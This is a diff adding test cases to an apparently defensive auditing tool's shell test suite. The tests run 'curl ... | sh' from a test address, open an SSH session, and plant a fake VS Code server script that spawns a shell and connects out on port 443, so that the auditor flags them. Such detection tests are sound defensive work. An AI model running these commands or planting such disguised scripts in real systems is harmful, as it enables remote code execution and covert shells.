@@ -216,3 +216,40 @@ run-version-removed()
 	rm -r /opt/app-1.2.3
 	await local_port=8080 'exe~(deleted)'
 }
+
+peace curl-sh 'curl into sh (scanned with @audit)'
+run-curl-sh()
+{
+	need curl
+	SCAN=(-o +@audit)
+	hold 443
+	as lab sh -c 'curl -s https://203.0.113.1/ | sh | cat'
+	await process=curl state=ESTABLISHED
+}
+
+peace sessions-audit 'sessions of sshd (scanned with @audit)'
+run-sessions-audit()
+{
+	SCAN=(-o +@audit)
+	sshd_here
+	await local_port=22 state=LISTEN process=sshd
+	peer ssh "${SSH[@]}" -tt lab@203.0.113.2
+	await process=sshd state=ESTABLISHED user=lab shells~pty
+}
+
+peace editor "an editor's terminal, low (scanned with @audit)"
+run-editor()
+{
+	need node script
+	SCAN=(-o +@audit)
+	FLAG=("${LOW[@]}")
+	hold 443
+	mkdir -p /home/lab/.vscode-server/bin
+	cat >/home/lab/.vscode-server/bin/server.js <<-'EOF'
+		require("child_process").spawn("script",
+		    ["-qfc", "bash", "/dev/null"]);
+		require("net").connect(443, "203.0.113.1");
+	EOF
+	as lab node /home/lab/.vscode-server/bin/server.js
+	await process=node state=ESTABLISHED shells~pty
+}
